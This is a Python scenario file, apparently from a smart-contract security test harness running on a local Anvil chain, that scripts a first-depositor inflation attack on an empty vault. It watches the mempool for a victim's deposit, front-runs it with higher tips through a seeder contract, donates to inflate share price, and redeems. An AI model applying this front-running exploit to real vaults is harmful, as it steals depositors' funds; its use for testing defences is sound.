"""Front-run the first real deposit into an empty vault with 1 wei plus a donation, then redeem."""

from __future__ import annotations

from eth_abi.abi import decode

from bulwark.chain.abi import find_function, selector
from bulwark.domain import TxHash
from bulwark.scenarios.attack import ScenarioContext, World
from bulwark.scenarios.protocol import Actor

VICTIM_DEPOSIT = 20_000 * 10**18
BLOCK_TIME_S = 1


def _victim(ctx: ScenarioContext) -> Actor:
    return ctx.protocol.users[-1]


async def setup(ctx: ScenarioContext) -> World:
    """The victim, an early user, has approved the new vault and is about to make the first deposit."""
    victim = _victim(ctx)
    await ctx.transact(
        victim, ctx.address("usd"), ctx.abi("usd"), "approve", ctx.address("vault"), VICTIM_DEPOSIT
    )
    return World(protocol=ctx.protocol, victims=(victim.address,))


async def attack(ctx: ScenarioContext) -> list[TxHash]:
    me, victim = ctx.attacker, _victim(ctx)
    vault, vault_abi = ctx.address("vault"), ctx.abi("vault")
    seeder, deployed = await ctx.deploy(me, ctx.scenario.attacker)
    abi = ctx.artifact(ctx.scenario.attacker).abi

    # The victim's deposit goes to the mempool; the attacker's bot sees it before it is mined.
    # The attacker does not mine: its front-run waits in the mempool, like any other, for the next
    # block (one-second block time here), which orders it ahead of the victim by its higher tip.
    was_automine = bool(await ctx.client.request("anvil_getAutomine"))
    await ctx.client.set_automine(False)
    try:
        await ctx.send(
            victim, vault, vault_abi, "deposit", VICTIM_DEPOSIT, victim.address, tip_wei=10**9, wait=False
        )
        deposit_sel = selector(find_function(vault_abi, "deposit"))
        pending = [
            tx
            for tx in await ctx.client.pending_transactions()
            if tx.to is not None and tx.to.lower() == vault.lower() and tx.data[:4] == deposit_sel
        ]
        if not pending:
            raise RuntimeError("the victim's deposit is not pending")
        amount, _receiver = decode(["uint256", "address"], pending[0].data[4:])
        funded = await ctx.send(
            me,
            ctx.address("usd"),
            ctx.abi("usd"),
            "transfer",
            seeder,
            amount + 1,
            tip_wei=20 * 10**9,
            wait=False,
        )
        seeded = await ctx.send(me, seeder, abi, "seed", vault, amount, tip_wei=20 * 10**9, wait=False)
        await ctx.client.request("evm_setIntervalMining", [BLOCK_TIME_S])
        for h in (funded, seeded):
            await ctx.client.wait_for_receipt(h)
    finally:
        await ctx.client.request("evm_setIntervalMining", [0])
        if was_automine:
            await ctx.client.set_automine(True)
    exited = await ctx.send(me, seeder, abi, "exit", vault)
    return [deployed, funded, seeded, exited]
